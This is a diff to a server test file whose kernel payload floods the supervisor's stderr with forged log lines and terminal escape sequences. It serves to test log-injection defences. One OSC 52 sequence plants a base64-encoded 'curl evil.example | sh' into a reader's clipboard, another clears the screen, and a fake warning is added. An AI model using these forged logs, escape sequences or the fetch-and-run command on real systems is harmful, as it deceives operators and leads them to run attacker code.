@@ -415,15 +415,18 @@ def test_iopub_flood_with_no_client_connected(
 
 # Inside the kernel: 300 MiB written straight to the inherited stderr as fast as it goes, in
 # lines that imitate the server's own and carry terminal escape sequences (OSC 52 sets the
-# clipboard of whoever reads the log in a terminal, ESC [ 2 J clears the screen).
+# clipboard of whoever reads the log in a terminal, ESC [ 2 J clears the screen). Under
+# ipykernel sys.stderr.fileno() is that inherited descriptor, the one the supervisor reads; fd 2
+# is ipykernel's pipe, copied to IOPub as well, whose queue for 300 MiB outgrew the sandbox's
+# memory on a loaded host.
 LOG_FLOOD = r"""
-import os
+import os, sys
 forged = (b"[I 2026-12-01 10:00:00.000 ServerApp] Kernel shutdown: all kernels\n"
           b"\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b[2J\r[W ServerApp] owned\n")
 block = forged * (1024 * 1024 // len(forged) + 1)
 written = 0
 while written < 300 * 1024 * 1024:
-    written += os.write(2, block)
+    written += os.write(sys.stderr.fileno(), block)
 print(written)
 """
 
